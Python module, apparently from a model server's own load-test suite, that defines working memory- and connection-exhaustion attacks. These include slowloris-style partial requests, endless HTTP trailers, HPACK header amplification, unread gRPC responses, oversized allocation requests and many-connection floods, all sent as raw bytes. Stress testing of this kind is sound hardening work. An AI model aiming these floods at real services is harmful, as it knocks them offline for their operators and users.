"""Attacks on a server's memory and places, by clients that make it keep bytes. Sent as raw bytes.

Each attack once ended a server in a control group of 4 GB, or its probes.
"""

import itertools
import socket
import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

from loadtest.drive.raw_http2 import (
    DATA,
    END_HEADERS,
    END_STREAM,
    FRAME_BYTES_MAX,
    HEADERS,
    calls,
    frame,
    grpc_headers,
    hello,
    hello_without_window,
    indexed_literal,
)
from serving.base.clock import Clock, pause, seconds_since
from serving.base.protos import predict_pb2, types_pb2

_PREDICT = "/tensorflow.serving.PredictionService/Predict"
_WATCH = "/grpc.health.v1.Health/Watch"
_REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

_THREAD_COUNT = 8
_CONNECT_SECONDS = 5
# After this time without a read, the server does not read on, and the connection is kept as it is.
_STALL_SECONDS = 2
_LOOK_SECONDS = 0.2
_FILE_BYTES = 2**30
_STRINGS_COUNT = 1_000_000
# 400 MB as floats: less than half of a budget in 4 GB.
_ZEROS_COUNT = 100_000_000

GRPC, HTTP = "gRPC", "HTTP"


@dataclass(frozen=True, kw_only=True)
class ByteAttack:
    """Connections that each send the parts that `opening` returns, and are then kept open.

    `opening` gets the model that is attacked. If `reads`, answers are read and thrown away. Before the
    first connection, `prepare` gets the base path of the model. `flags` are the server's. A pause after
    each part lets the server answer it before the next one comes.
    """

    name: str
    connection_count: int
    opening: Callable[[str, str], Iterator[bytes]]
    protocols: Sequence[str]
    reads: bool = False
    pause_seconds: float = 0.0
    prepare: Callable[[Path], None] = lambda base_path: None
    flags: Mapping[str, object] | None = None


class Flood:
    """Holds one attack for a time. Connections that the server closes are opened again."""

    def __init__(
        self, attack: ByteAttack, model: str, addresses: Mapping[str, tuple[str, int]], clock: Clock
    ) -> None:
        """`addresses` has the host and port of each protocol."""
        self._attack = attack
        self._model = model
        self._addresses = addresses
        self._clock = clock
        self._numbers = iter(range(attack.connection_count))
        self._lock = threading.Lock()
        self._begin_ns = 0
        self._seconds = 0.0
        self.sent_bytes = 0

    def run(self, seconds: float) -> None:
        """Attacks for `seconds`, and closes all connections."""
        self._begin_ns, self._seconds = self._clock.now_ns(), seconds
        count = min(_THREAD_COUNT, self._attack.connection_count)
        threads = [threading.Thread(target=self._attack_on, daemon=True) for _ in range(count)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    @property
    def _left_seconds(self) -> float:
        return self._seconds - seconds_since(self._clock, self._begin_ns)

    def _next_number(self) -> int | None:
        with self._lock:
            return next(self._numbers, None)

    def _attack_on(self) -> None:
        opened: dict[int, socket.socket] = {}
        while self._left_seconds > 0 and (number := self._next_number()) is not None:
            self._open(number, opened)
        while self._left_seconds > 0:
            for number, connection in list(opened.items()):
                if self._left_seconds > 0 and _is_closed(connection):
                    connection.close()
                    self._open(number, opened)
            pause(self._clock, _LOOK_SECONDS)
        for connection in opened.values():
            connection.close()

    def _open(self, number: int, opened: dict[int, socket.socket]) -> None:
        protocol = self._attack.protocols[number % len(self._attack.protocols)]
        try:
            connection = socket.create_connection(self._addresses[protocol], _CONNECT_SECONDS)
        except OSError:
            # Either the server has ended, or it has no place for the connection.
            pause(self._clock, _LOOK_SECONDS)
            return
        opened[number] = connection
        connection.settimeout(_STALL_SECONDS)
        with suppress(OSError):
            for part in self._attack.opening(self._model, protocol):
                if self._left_seconds <= 0:
                    break
                connection.sendall(part)
                with self._lock:
                    self.sent_bytes += len(part)
                if self._attack.reads:
                    _read_away(connection)
                if self._attack.pause_seconds:
                    pause(self._clock, self._attack.pause_seconds)


def _read_away(connection: socket.socket) -> None:
    connection.setblocking(False)
    with suppress(BlockingIOError):
        while connection.recv(2**20):
            pass
    connection.settimeout(_STALL_SECONDS)


def _is_closed(connection: socket.socket) -> bool:
    try:
        return connection.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


# --- Over gRPC ------------------------------------------------------------------------------------


def _data(stream: int, message: bytes, is_last: bool = True) -> bytes:
    body = b"\x00" + len(message).to_bytes(4, "big") + message
    ends = range(0, len(body), FRAME_BYTES_MAX)
    return b"".join(
        frame(
            DATA,
            END_STREAM if is_last and at == ends[-1] else 0,
            stream,
            body[at : at + FRAME_BYTES_MAX],
        )
        for at in ends
    )


def _strings(model: str, protocol: str) -> Iterator[bytes]:
    """A string of 10 KB that fills a shape of a million values."""
    del protocol
    request = predict_pb2.PredictRequest()
    request.model_spec.name = model
    tensor = request.inputs["x"]
    tensor.dtype = types_pb2.DT_STRING
    tensor.tensor_shape.dim.add(size=_STRINGS_COUNT)
    tensor.string_val.append(b"s" * 10_000)
    yield hello() + calls(_PREDICT, request.SerializeToString(), count=2)


def _zeros(model: str, protocol: str) -> Iterator[bytes]:
    """Requests of 8 bytes, each of whose runs takes 400 MB."""
    if protocol == HTTP:
        body = b'{"signature_name": "zeros", "inputs": %d}' % _ZEROS_COUNT
        yield _post(model, body) * 20
        return
    request = predict_pb2.PredictRequest()
    request.model_spec.name = model
    request.model_spec.signature_name = "zeros"
    tensor = request.inputs["count"]
    tensor.dtype = types_pb2.DT_INT32
    tensor.tensor_shape.SetInParent()
    tensor.int_val.append(_ZEROS_COUNT)
    yield hello() + calls(_PREDICT, request.SerializeToString(), count=20)


def _unread_answers(model: str, protocol: str) -> Iterator[bytes]:
    """Calls whose answers are not read. HPACK makes each of their large metadata one byte."""
    del protocol
    request = predict_pb2.PredictRequest()
    request.model_spec.name = model
    tensor = request.inputs["x"]
    tensor.dtype = types_pb2.DT_STRING
    tensor.tensor_shape.dim.add(size=1)
    tensor.string_val.append(b"ab")
    message = request.SerializeToString()
    yield hello_without_window()
    again = bytes([0x80 | 62])
    for stream in range(1, 2_000, 2):
        first = indexed_literal("k", "v" * 3_900) if stream == 1 else again
        head = frame(HEADERS, END_HEADERS, stream, grpc_headers(_PREDICT) + first + again * 2)
        yield head + _data(stream, message)


def _unread_reflection(model: str, protocol: str) -> Iterator[bytes]:
    """Questions about files, 64 a stream, whose answers are not read."""
    del model, protocol
    yield hello_without_window()
    symbol = b"tensorflow.serving.PredictionService"
    question = b"\x22" + bytes([len(symbol)]) + symbol
    for stream in range(1, 2_000, 2):
        head = frame(HEADERS, END_HEADERS, stream, grpc_headers(_REFLECTION))
        yield head + _data(stream, question, is_last=False) * 64


def _watchers(model: str, protocol: str) -> Iterator[bytes]:
    """Watchers of services with names of 60 KB."""
    del model, protocol
    yield hello()
    name = b"w" * 60_000
    message = b"\x0a\xe0\xd4\x03" + name
    for stream in range(1, 400, 2):
        yield frame(HEADERS, END_HEADERS, stream, grpc_headers(_WATCH)) + _data(stream, message)


# --- Over HTTP ------------------------------------------------------------------------------------


def _head(model: str, fields: bytes) -> bytes:
    line = f"POST /v1/models/{model}:predict HTTP/1.1\r\nHost: localhost\r\n".encode()
    return line + fields + b"\r\n"


def _post(model: str, body: bytes) -> bytes:
    return _head(model, b"Content-Length: %d\r\n" % len(body)) + body


def _chunked(model: str) -> bytes:
    return _head(model, b"Transfer-Encoding: chunked\r\n")


def _trailers(model: str, protocol: str) -> Iterator[bytes]:
    """A chunked body whose trailers do not end."""
    del protocol
    yield _chunked(model) + b"0\r\n"
    yield from itertools.repeat(b"a: b\r\n" * 10_000)


def _tiny_chunks(model: str, protocol: str) -> Iterator[bytes]:
    """A body of chunks of one byte."""
    del protocol
    yield _chunked(model)
    yield from itertools.repeat(b"1\r\n \r\n" * 10_000)


def _heads(model: str, protocol: str) -> Iterator[bytes]:
    """Sends heads of 190 short fields, many in a row, behind a request that runs as long as it may."""
    yield from _endless(model, protocol)
    fields = b"".join(b"a%d:\r\n" % number for number in range(190))
    yield _head(model, b"Content-Length: 0\r\n" + fields) * 40


def _half_sent(model: str, protocol: str) -> Iterator[bytes]:
    """Sends the first byte of a body, and nothing more."""
    del protocol
    yield _head(model, b"Content-Length: 100\r\n") + b"{"


def _endless(model: str, protocol: str) -> Iterator[bytes]:
    """Sends a request that runs as long as it may."""
    del protocol
    yield _post(model, b'{"signature_name": "slow", "inputs": 1e9}')


def _pipelined(model: str, protocol: str) -> Iterator[bytes]:
    """3,000 requests in a row, whose answers are read."""
    del protocol
    yield from itertools.repeat(_post(model, b'{"instances": ["ab"]}') * 10, 300)


def _make_large_file(base_path: Path) -> None:
    """Adds a version with a sparse file of 1 GiB."""
    version = base_path / "2"
    version.mkdir()
    for path in (base_path / "1").iterdir():
        (version / path.name).symlink_to(path)
    with (version / "batching_params.pbtxt").open("wb") as file:
        file.truncate(_FILE_BYTES)


def _nothing(model: str, protocol: str) -> Iterator[bytes]:
    del model, protocol
    yield b""


BYTE_ATTACKS: Sequence[ByteAttack] = (
    ByteAttack(name="none", connection_count=1, opening=_nothing, protocols=[HTTP]),
    ByteAttack(name="strings", connection_count=4, opening=_strings, protocols=[GRPC]),
    ByteAttack(
        name="unread answers",
        connection_count=400,
        opening=_unread_answers,
        protocols=[GRPC],
        pause_seconds=0.001,
    ),
    ByteAttack(
        name="unread reflection", connection_count=200, opening=_unread_reflection, protocols=[GRPC]
    ),
    ByteAttack(name="watchers", connection_count=120, opening=_watchers, protocols=[GRPC]),
    ByteAttack(name="trailers", connection_count=8, opening=_trailers, protocols=[HTTP]),
    ByteAttack(name="runs", connection_count=60, opening=_zeros, protocols=[GRPC, HTTP]),
    ByteAttack(
        name="files",
        connection_count=1,
        opening=_nothing,
        protocols=[HTTP],
        prepare=_make_large_file,
        flags={"enable_batching": True, "enable_per_model_batching_parameters": True},
    ),
    ByteAttack(name="heads", connection_count=600, opening=_heads, protocols=[HTTP]),
    ByteAttack(name="half-sent", connection_count=600, opening=_half_sent, protocols=[HTTP]),
    ByteAttack(name="tiny chunks", connection_count=8, opening=_tiny_chunks, protocols=[HTTP]),
    ByteAttack(name="endless", connection_count=8, opening=_endless, protocols=[HTTP]),
    ByteAttack(
        name="pipelined", connection_count=4, opening=_pipelined, protocols=[HTTP], reads=True
    ),
)
"""The attacks, in the order in which they run."""
